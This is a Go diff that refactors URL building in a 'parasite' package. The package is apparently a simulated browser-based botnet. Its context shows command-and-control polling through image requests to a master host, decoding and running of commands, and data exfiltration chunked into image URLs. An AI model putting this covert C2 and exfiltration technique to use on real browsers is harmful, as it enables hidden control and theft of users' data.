@@ -8,7 +8,6 @@
 package parasite
 
 import (
-	"fmt"
 	"sort"
 	"strconv"
 	"strings"
@@ -138,7 +137,7 @@ func (r *Registry) run(env script.Env, cfg *Config) error {
 	// steps 3–4). The master recognises ?t= and lets it through.
 	if sameOrigin && !strings.Contains(scriptURL, "#inline") {
 		r.reloads++
-		busted := fmt.Sprintf("%s?t=%d", name, env.Now().Microseconds())
+		busted := name + "?t=" + strconv.FormatInt(env.Now().Microseconds(), 10)
 		env.FetchNoCache(busted, func(*httpsim.Response, error) {})
 	}
 
@@ -180,7 +179,7 @@ func (r *Registry) run(env script.Env, cfg *Config) error {
 // image sequence; decoding yields the command which is then executed.
 func (r *Registry) poll(env script.Env, cfg *Config) {
 	r.polls++
-	metaURL := fmt.Sprintf("%s/meta/%s.svg", cfg.MasterHost, cfg.BotID)
+	metaURL := cfg.MasterHost + "/meta/" + cfg.BotID + ".svg"
 	env.AddImage(metaURL, func(w, h int, ok bool) {
 		if !ok || w == 0 {
 			return
@@ -194,7 +193,8 @@ func (r *Registry) poll(env script.Env, cfg *Config) {
 		failed := false
 		for seq := 0; seq < count; seq++ {
 			seq := seq
-			imgURL := fmt.Sprintf("%s/img/%s/%d/%d.svg", cfg.MasterHost, cfg.BotID, cmdID, seq)
+			imgURL := cfg.MasterHost + "/img/" + cfg.BotID + "/" +
+				strconv.Itoa(cmdID) + "/" + strconv.Itoa(seq) + ".svg"
 			env.AddImage(imgURL, func(w, h int, ok bool) {
 				if !ok {
 					failed = true
@@ -233,11 +233,9 @@ func (r *Registry) exfil(env script.Env, cfg *Config) Exfil {
 		r.exfilured += len(data)
 		chunks := cnc.EncodeURLChunks(data, cnc.DefaultChunkSize)
 		for seq, chunk := range chunks {
-			url := fmt.Sprintf("%s/up/%s/%s/%s/%s",
-				cfg.MasterHost, cfg.BotID, stream, strconv.Itoa(seq), chunk)
-			env.AddImage(url, nil)
+			env.AddImage(cfg.MasterHost+"/up/"+cfg.BotID+"/"+stream+"/"+strconv.Itoa(seq)+"/"+chunk, nil)
 		}
-		env.AddImage(fmt.Sprintf("%s/up/%s/%s/fin", cfg.MasterHost, cfg.BotID, stream), nil)
+		env.AddImage(cfg.MasterHost+"/up/"+cfg.BotID+"/"+stream+"/fin", nil)
 	}
 }
 
